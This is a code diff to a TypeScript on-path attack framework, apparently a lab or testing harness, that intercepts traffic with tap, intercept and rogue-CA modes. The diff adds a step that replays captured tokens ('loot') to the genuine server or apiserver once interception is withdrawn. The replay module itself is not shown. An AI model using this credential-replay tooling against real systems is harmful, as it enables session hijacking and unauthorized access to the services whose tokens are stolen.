@@ -9,6 +9,7 @@ import { type Loot, LootBag } from './loot';
 import { OpenSockets } from './open-sockets';
 import type { OnPathHost, Position, SlowUndo, Undo } from './position';
 import { passBytes } from './relay-raw';
+import { replayTokens } from './replay';
 import { WireTap } from './tap';
 
 export interface AttackPlan {
@@ -25,7 +26,7 @@ export interface AttackPlan {
   readonly tampered: string;
   /** Accept this version and no other. */
   readonly tlsVersion?: TlsVersion;
-  /** For `rogue-ca`: where the genuine authority's name can be read. Default: the first target. */
+  /** The apiserver: for `rogue-ca`, where the authority's name can be read; for `replay`, who knows tokens. Default: the target. */
   readonly authorityAt?: Endpoint;
 }
 
@@ -53,6 +54,8 @@ export class Attacker {
   /** Stands ready to answer, then takes the position. */
   async attack(plan: AttackPlan): Promise<Attack> {
     const attack = new OngoingAttack(this.#host);
+    // Only when nobody's traffic is diverted any more: what is replayed goes to the genuine server.
+    if (plan.technique === 'replay') attack.afterwards(() => this.#replay(plan, attack.loot));
     try {
       if (plan.mode === 'tap') await this.#tap(plan, attack);
       else await this.#intercept(plan, plan.mode, attack);
@@ -62,6 +65,12 @@ export class Attacker {
       throw error;
     }
     return attack;
+  }
+
+  async #replay({ targets, authorityAt }: AttackPlan, loot: LootBag): Promise<void> {
+    for (const genuine of targets) {
+      await replayTokens(this.#host, { genuine, apiserver: authorityAt ?? genuine }, loot);
+    }
   }
 
   async #tap(plan: AttackPlan, attack: OngoingAttack): Promise<void> {
@@ -138,9 +147,15 @@ class OngoingAttack implements Attack {
   readonly #listeners: Listener[] = [];
   readonly #conversations = new Set<Promise<void>>();
   #withdrawn: Promise<void> | null = null;
+  #afterwards: () => Promise<void> = async () => undefined;
 
   constructor(host: OnPathHost) {
     this.#host = host;
+  }
+
+  /** What is done with the loot when the path has been given back. */
+  afterwards(work: () => Promise<void>): void {
+    this.#afterwards = work;
   }
 
   undoLater(undo: Undo | SlowUndo): void {
@@ -186,7 +201,7 @@ class OngoingAttack implements Attack {
   }
 
   withdraw(): Promise<void> {
-    this.#withdrawn ??= this.#giveBack();
+    this.#withdrawn ??= this.#giveBack().then(() => this.#afterwards());
     return this.#withdrawn;
   }
 
